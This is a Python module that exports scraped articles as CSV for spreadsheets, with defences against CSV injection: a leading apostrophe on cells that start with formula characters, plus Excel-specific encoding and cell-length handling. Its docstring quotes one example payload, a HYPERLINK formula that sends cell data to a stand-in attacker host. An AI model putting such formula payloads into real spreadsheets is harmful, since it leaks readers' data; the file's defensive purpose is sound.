"""CSV for spreadsheets: cells that cannot run as formulas, a file Excel reads as UTF-8.

Contract: :func:`write_csv` writes exported articles as CSV in which no cell can start a
formula and, in Excel mode, the file begins with a UTF-8 byte order mark (without one,
Excel on Japanese Windows reads the bytes as Shift_JIS and every title turns to mojibake)
and no cell is longer than Excel keeps.  Titles and texts come from the web, so they are
untrusted: a title ``=HYPERLINK("https://evil.example/?"&A1,"click")`` would otherwise run
in the reader's spreadsheet (CSV injection).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import TextIO

from db.queries import ExportRow

COLUMNS = ("canonical_url", "title", "text", "language", "author", "published_at",
           "first_seen_at", "source_key", "sightings", "themes", "theme_labels")

# OWASP "CSV Injection": a cell starting with one of these is read as a formula (or, for
# tab and carriage return, can hide one behind a first character a spreadsheet drops).
# The full-width forms are included because Japanese input methods type them and some
# spreadsheets fold them to the ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
UTF8_BOM = "\ufeff"
EXCEL_MAX_CELL_CHARS = 32_767  # Excel's limit for one cell; longer text is cut off


def neutralise_cell(value: str) -> str:
    """``value`` with a leading apostrophe when it would start a formula (OWASP)."""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value


def csv_record(row: ExportRow, theme_labels: Mapping[str, str]) -> list[str]:
    """One exported article as CSV cells, in :data:`COLUMNS` order, neutralised."""
    cells = [
        row.canonical_url or "", row.title, row.text, row.language or "", row.author or "",
        row.published_at.isoformat() if row.published_at else "",
        row.first_seen_at.isoformat(), row.source_key, " ".join(row.sighting_keys),
        " ".join(row.themes),
        # Labels may hold spaces, so they are joined with " / " rather than a space.
        " / ".join(theme_labels.get(theme, theme) for theme in row.themes),
    ]
    return [neutralise_cell(cell) for cell in cells]


def write_csv(stream: TextIO, rows: Iterable[ExportRow], theme_labels: Mapping[str, str],
              *, for_excel: bool) -> None:
    """Write a header and one line per article; ``for_excel`` adds the BOM and cell cap."""
    if for_excel:
        stream.write(UTF8_BOM)
    # Every cell quoted, so a neutralised cell's content cannot spill into the next one.
    writer = csv.writer(stream, quoting=csv.QUOTE_ALL)
    writer.writerow(COLUMNS)
    for row in rows:
        cells = csv_record(row, theme_labels)
        if for_excel:
            cells = [cell[:EXCEL_MAX_CELL_CHARS] for cell in cells]
        writer.writerow(cells)
